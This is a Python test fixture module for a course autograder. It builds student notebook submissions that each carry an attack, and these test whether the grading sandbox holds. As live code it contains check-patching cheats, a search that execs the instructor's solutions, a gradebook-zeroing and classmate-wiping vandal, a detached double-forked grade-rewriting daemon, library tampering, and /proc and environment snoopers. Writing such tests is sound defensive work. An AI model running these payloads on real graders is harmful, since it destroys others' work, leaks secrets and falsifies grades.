"""Hostile submissions for tests/course/test_integrity.py: every attack of issue #13, as a student would hand it in.

Each builder takes the sample submissions of ``autograde/examples/{solution,untouched}`` (via nbformat), drops the
long experiment cells (``exp-*``: ordinary cells a student may delete, so a kernel run takes seconds) and plants one
attack in a solution cell or an added cell. The payloads live only here: never in ``notebooks/`` (the student
release) nor in ``autograde/examples``.

:func:`build_class` writes a whole class ``<folder>/<student>/<assignment>/<assignment>.ipynb`` and returns what
the test expects of each student (:class:`Expect`).
"""

from __future__ import annotations

import re
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat
from nbformat.v4 import new_code_cell

ROOT = Path(__file__).resolve().parents[2]
EX1, EX2 = "ex1_motivation", "ex2_lora"
EX1_MAX = 7  # ex1's autograded points (check_bert_param_count 3, check_full_finetune_bytes 2, check_storage_bytes 2)
DAEMON_MARKER = "hx-daemon-9f3c1e"  # in the detached process's command line: the test looks for survivors by it
BIG_PRINT_BYTES = 50_000_000


def example(kind: str, name: str = EX1, keep_experiments: bool = False):
    """A sample submission (``kind``: solution or untouched), without its ``exp-*`` cells unless asked."""
    nb = nbformat.read(ROOT / "autograde" / "examples" / kind / name / f"{name}.ipynb", as_version=4)
    if not keep_experiments:
        nb.cells = [c for c in nb.cells if not c.id.startswith("exp-")]
    return nb


def release_cell(name: str, cell_id: str):
    """A cell of the student release ``notebooks/<name>`` (a locked check cell as the student has it)."""
    nb = nbformat.read(ROOT / "notebooks" / name / f"{name}.ipynb", as_version=4)
    return next(c for c in nb.cells if c.id == cell_id)


def set_cell(nb, cell_id: str, source: str):
    """Replace the source of the cell ``cell_id`` (a solution cell: the student's own code)."""
    cell = next(c for c in nb.cells if c.id == cell_id)
    cell.source = textwrap.dedent(source).strip("\n")
    return nb


def add_cell(nb, source: str, after: str | None = None, cell_id: str | None = None):
    """Add an ordinary code cell after the cell ``after`` (default: at the end), as a student adds one."""
    cell = new_code_cell(textwrap.dedent(source).strip("\n"))
    if cell_id:
        cell.id = cell_id
    at = len(nb.cells) if after is None else next(i for i, c in enumerate(nb.cells) if c.id == after) + 1
    nb.cells.insert(at, cell)
    return nb


# --- (1) no-op patches of the in-kernel checks, on an untouched notebook ---------------------------------------
PATCH_CHECKS = """
import peftlab.checks
for _name in dir(checks):
    if _name.startswith("check_") or _name == "assert_own_work":
        setattr(checks, _name, lambda *args, **kwargs: None)
        setattr(peftlab.checks, _name, lambda *args, **kwargs: None)
"""
PATCH_EXIT = """
checks.Report.__exit__ = lambda *args: True
"""
REBIND = """
class _Yes:
    def __getattr__(self, name):
        return lambda *args, **kwargs: None

checks = _Yes()
"""
MODULES_SWAP = """
import sys
import types

_fake = types.ModuleType("peftlab.checks")
_fake.__getattr__ = lambda name: (lambda *args, **kwargs: None)
sys.modules["peftlab.checks"] = _fake
import peftlab

peftlab.checks = _fake
checks = _fake
"""

# --- (2) the instructor's notebook, found at grading time, its solution cells exec'd ----------------------------
READ_SOLUTIONS = r'''
import json
import os

def _steal(name="ex1_motivation"):
    """Find any copy of the source notebook (solutions/, the course's source/, sample solutions); run its answers."""
    mine = os.path.expanduser("~")  # the student's own notebook is there: not the instructor's
    for top in ("/", os.path.dirname(os.getcwd())):
        for here, dirs, files in os.walk(top):
            dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "site-packages")]
            if here.startswith(mine):
                continue
            if name + ".ipynb" in files and here.rstrip("/").endswith(name):
                try:
                    cells = json.load(open(os.path.join(here, name + ".ipynb")))["cells"]
                except (OSError, ValueError):
                    continue
                done = 0
                for cell in cells:
                    meta = cell.get("metadata", {}).get("nbgrader", {})
                    if cell["cell_type"] == "code" and meta.get("solution") and not meta.get("grade"):
                        src = "".join(cell["source"])
                        if "NotImplementedError" not in src:
                            exec(src, globals())
                            done += 1
                if done:
                    return here
    return None

print("stolen from", _steal())
'''

# --- (3) peftlab's reference through a closure, a default argument, an exec'd copy ------------------------------
CLOSURE = """
def _make():
    from peftlab.checks.ex1 import meta_param_count as reference

    def bert_param_count(config) -> int:
        return reference(config)

    return bert_param_count

bert_param_count = _make()
"""
DEFAULT_ARG = """
import peftlab.checks.ex1

def full_finetune_bytes(n_params: int, weight_bytes: int = 4, _ref=peftlab.checks.ex1.adam_bytes_reference) -> int:
    return _ref(n_params, weight_bytes)
"""
EXEC_GETSOURCE = """
import inspect

import peftlab.lora

exec(inspect.getsource(peftlab.lora).replace("from . ", "from peftlab ").replace("from .", "from peftlab."), globals())


class LoRALinear(nn.Module):
    def __init__(self, base, r, lora_alpha, lora_dropout=0.0):
        super().__init__()
        inner = LoraLinear(base, LoraConfig(r=r, lora_alpha=lora_alpha, lora_dropout=lora_dropout))
        adapter = inner.adapters[inner.adapters.active]
        self.base = base
        for p in self.base.parameters():
            p.requires_grad_(False)
        self.lora_A, self.lora_B = adapter.lora_A, adapter.lora_B
        self.scaling, self.dropout, self.merged = adapter.scaling, adapter.dropout, False

    def forward(self, x):
        out = self.base(x)
        return out if self.merged else out + LoraAdapter.forward(self, x)

    def delta_weight(self):
        return LoraAdapter.delta_weight(self)
"""

# --- (4) classmates: the gradebook, their autograded and submitted notebooks --------------------------------------
VANDAL = r'''
import os
import shutil
import sqlite3

def _find(names, top="/"):
    for here, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "site-packages")]
        for f in files + dirs:
            if f in names:
                yield os.path.join(here, f)

for path in list(_find({"gradebook.db"})):
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        db.commit()
        print("zeroed", path)
    except Exception as e:
        print("gradebook:", type(e).__name__)
for path in list(_find({"autograded", "submitted"})):
    for student in os.listdir(path):
        if "vandal" in student:
            continue
        target = os.path.join(path, student)
        try:
            if path.endswith("autograded"):
                shutil.rmtree(target)
            else:
                for here, _, files in os.walk(target):
                    for f in files:
                        if f.endswith(".ipynb"):
                            open(os.path.join(here, f), "w").write("{}")
            print("hit", target)
        except Exception as e:
            print("classmate:", type(e).__name__)
'''

# --- (5) a detached process that outlives the kernel and rewrites grades ------------------------------------------
DAEMON_BODY = r'''
import os, sqlite3, sys, time
end = time.time() + 600  # the issue's 150 s, and longer than the grade command: a survivor is seen
while time.time() < end:
    for here, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "site-packages")]
        for f in files:
            p = os.path.join(here, f)
            try:
                if f == "gradebook.db":
                    db = sqlite3.connect(p)
                    db.execute("UPDATE grade SET auto_score = max_score")
                    db.commit()
                elif f in ("scores.csv", "grades.csv"):
                    open(p, "a").write("hx_daemon,ex1_motivation,7,7\n")
            except Exception:
                pass
    time.sleep(2)
'''
DAEMON = f'''
import os
import subprocess
import sys

body = {DAEMON_BODY!r}
# start_new_session: its own session and process group, outside the kernel's
p = subprocess.Popen([sys.executable, "-c", body, "{DAEMON_MARKER}"], start_new_session=True,
                     stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
print("detached", p.pid)
# and a classic double fork: the grandchild is re-parented, its parent gone
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", body, "{DAEMON_MARKER}"])
    os._exit(0)
'''

# --- (6) writing into the installed peftlab -----------------------------------------------------------------------
WRITE_PEFTLAB = r'''
import os
import peftlab

root = os.path.dirname(peftlab.__file__)
patch = "\ndef check_param_count(*a, **k):\n    return None\n"
for rel in ("checks/__init__.py", "checks/ex1.py", "checks/core.py", "__init__.py", "evil.py"):
    try:
        with open(os.path.join(root, rel), "a") as f:
            f.write(patch)
        print("patched", rel)
    except OSError as e:
        print("could not patch", rel, type(e).__name__)
'''

# --- (9) everything a student's code can see, printed into their outputs ------------------------------------------
SNOOP_WALK = r'''
import os
seen = 0
for here, dirs, files in os.walk("/"):
    dirs[:] = [d for d in dirs if d not in ("proc", "sys", "usr", "dev", "site-packages", "__pycache__")]
    print(here, sorted(files)[:50])
    for f in files:
        p = os.path.join(here, f)
        if f.endswith((".ipynb", ".json", ".csv", ".db", ".txt", ".md", ".jsonl", ".py")) and seen < 400:
            try:
                print("====", p, "\n", open(p, errors="replace").read(4000))
                seen += 1
            except OSError as e:
                print("no", p, type(e).__name__)
'''
SNOOP_PROC = r'''
import os
for pid in sorted(os.listdir("/proc")):
    if pid.isdigit():
        for what in ("cmdline", "environ"):
            try:
                print(pid, what, open(f"/proc/{pid}/{what}", "rb").read().replace(b"\0", b" ").decode(errors="replace"))
            except OSError as e:
                print(pid, what, type(e).__name__)
print(dict(os.environ))
for path in ("/home", "/home/student/..", "/work", "/root", "/tmp", "/mnt", "/srv", "/opt"):
    try:
        print(path, os.listdir(path))
    except OSError as e:
        print(path, type(e).__name__)
'''

# --- (10)-(12) an honest student's accidents ------------------------------------------------------------------
EXIT_LAST = "import os\nos._exit(0)  # after earning every point"
ALLOCATE = "hog = bytearray(6 * 2**30)  # 6 GiB"
BIG_PRINT = f"for _ in range({BIG_PRINT_BYTES // 1_000_000}):\n    print('y' * 999_999)"


@dataclass
class Expect:
    """What the test expects of one student's ex1 (or ex2) after grading."""

    attack: str  # the row of the table (and the guarantee)
    assignment: str = EX1
    points: float | None = None  # exact autograded points, None: see failed
    failed: tuple[str, ...] = ()  # check cells that must fail
    status: tuple[str, ...] = ()  # substrings of the scores.csv status


def _untouched_with(cell_id: str, payload: str):
    nb = example("untouched")
    return set_cell(nb, cell_id, payload)


def _solution_plus(source: str, after: str | None = None, cell_id: str | None = None):
    return add_cell(example("solution"), source, after=after, cell_id=cell_id)


def _write(folder: Path, student: str, assignment: str, nb, name: str | None = None) -> None:
    path = folder / student / assignment / (name or f"{assignment}.ipynb")
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(nb, path)


def build_class(folder: Path) -> dict[str, Expect]:
    """Write every attacker (and the classmates they aim at) under ``folder``; ``{student: Expect}``.

    Attacks that must all earn 0 on an untouched notebook share a student (one per solution cell, or an added cell),
    and so do the accidents of an honest student: each student costs a kernel run and a re-run, on 2 cores."""
    expect: dict[str, Expect] = {}

    def put(student, nb, exp, assignment=EX1):
        _write(folder, student, assignment, nb)
        expect[student] = exp

    # (1) no-op patches of the in-kernel checks, from solution cells and an added cell, on an untouched notebook
    nb = _untouched_with("bert_param_count", PATCH_CHECKS)
    set_cell(nb, "full_finetune_bytes", PATCH_EXIT)
    set_cell(nb, "storage_bytes", MODULES_SWAP)
    add_cell(nb, REBIND, after="storage_bytes")
    put("hx_patcher", nb, Expect("no-op checks, Report.__exit__, sys.modules, rebound checks", points=0))
    # (2) the instructor's solution cells exec'd, (4) the vandal of classmates, (5) the detached process,
    # (6) writing into peftlab: one untouched notebook, graded first (sorted ids); every other student is a classmate
    nb = _untouched_with("bert_param_count", READ_SOLUTIONS)
    set_cell(nb, "full_finetune_bytes", VANDAL)
    set_cell(nb, "storage_bytes", WRITE_PEFTLAB)
    add_cell(nb, DAEMON, after="setup")
    put("hx_a_vandal", nb, Expect("stolen solution, vandal, detached process, peftlab write", points=0))
    # a classmate graded at the same time (jobs=2) as the vandal
    put("hx_b_victim", example("solution"), Expect("classmate of the vandal", points=EX1_MAX))
    # (3) peftlab's reference through a closure and a default argument: those pieces 0, the honest one kept
    nb = set_cell(example("solution"), "bert_param_count", CLOSURE)
    set_cell(nb, "full_finetune_bytes", DEFAULT_ARG)
    put("hx_closure", nb, Expect("closure, default argument", points=EX1_MAX - 5,
                                 failed=("check_bert_param_count", "check_full_finetune_bytes")))
    put("hx_getsource", set_cell(example("solution", EX2), "lora_layer", EXEC_GETSOURCE),
        Expect("exec(inspect.getsource(peftlab.lora))", assignment=EX2, failed=("check_lora_init",
                                                                                  "check_lora_forward")), EX2)
    # (7) the sample solution handed in unchanged (but for the experiment cells, which are no student code)
    put("hx_sample", example("solution"), Expect("sample solution", points=EX1_MAX))
    # (9) the snooper: an honest notebook printing all it can see
    nb = _solution_plus(SNOOP_WALK, after="setup")
    add_cell(nb, SNOOP_PROC, after="setup")
    put("hx_snoop", nb, Expect("snooper", points=EX1_MAX))
    # (10) os._exit in a last cell, (11) 6 GiB, (13) a check cell pasted twice (new cell id, same metadata)
    nb = _solution_plus(ALLOCATE, after="check_bert_param_count")
    at = next(i for i, c in enumerate(nb.cells) if c.id == "check_storage_bytes")
    pasted = nbformat.from_dict(dict(release_cell(EX1, "check_storage_bytes")))  # copied in the student's notebook
    pasted.id = "pasted-check"
    nb.cells.insert(at + 1, pasted)
    add_cell(nb, EXIT_LAST)
    put("hx_accidents", nb, Expect("6 GiB, duplicated check cell, os._exit last", points=EX1_MAX,
                                   status=("duplicated",)))
    # (12) printing 50 MB
    put("hx_bigprint", _solution_plus(BIG_PRINT, after="check_bert_param_count"), Expect("50 MB print",
                                                                                         points=EX1_MAX))
    # (14) misnamed folders, and a second notebook beside the right one
    _write(folder, "hx_misnamed", "Ex1_Motivation", example("solution"))
    _write(folder, "hx_misnamed", "Ex1_Motivation", example("untouched"), name="ex1_motivation-Copy1.ipynb")
    expect["hx_misnamed"] = Expect("misnamed folder, second notebook", points=EX1_MAX,
                                   status=("Ex1_Motivation", "ex1_motivation-Copy1.ipynb"))
    _write(folder, "hx_short", "ex1", example("solution"))
    expect["hx_short"] = Expect("short folder name", points=EX1_MAX, status=("'ex1'",))
    return expect


def everything_untouched(folder: Path, student: str = "hx_all") -> list[str]:
    """An untouched notebook of every assignment (experiment cells removed): feedback for all of them, cheaply."""
    names = sorted(p.parent.name for p in (ROOT / "solutions").glob("*/*.ipynb") if p.stem == p.parent.name)
    for name in names:
        _write(folder, student, name, example("untouched", name))
    return names


# --- what must never reach a student ------------------------------------------------------------------------------
def _blocks(source: str, begin: str, end: str) -> list[str]:
    return [m.group(1) for m in re.finditer(rf"{re.escape(begin)}\n(.*?){re.escape(end)}", source, flags=re.S)]


def secret_lines(min_len: int = 20) -> dict[str, dict[str, set[str]]]:
    """Per assignment, the distinctive lines of its hidden tests and of its solution code (``{"hidden": ...,
    "solution": ...}``): stripped lines of ``solutions/*`` inside the marker blocks that the release does not quote."""
    out = {}
    for path in sorted((ROOT / "solutions").glob("*/*.ipynb")):
        name = path.parent.name
        if path.stem != name:
            continue
        nb = nbformat.read(path, as_version=4)
        release = nbformat.read(ROOT / "notebooks" / name / f"{name}.ipynb", as_version=4)
        public = "\n".join(c.source for c in release.cells)  # a line quoted in a docstring is no secret
        hidden, solution = set(), set()
        for cell in nb.cells:
            for block in _blocks(cell.source, "### BEGIN HIDDEN TESTS", "### END HIDDEN TESTS"):
                hidden |= {ln.strip() for ln in block.splitlines()}
            if cell.cell_type == "code":
                for block in _blocks(cell.source, "### BEGIN SOLUTION", "### END SOLUTION"):
                    solution |= {ln.strip() for ln in block.splitlines()}
        out[name] = {kind: {ln for ln in lines if len(ln) >= min_len and ln not in public and not ln.startswith("#")}
                     for kind, lines in (("hidden", hidden), ("solution", solution))}
    return out
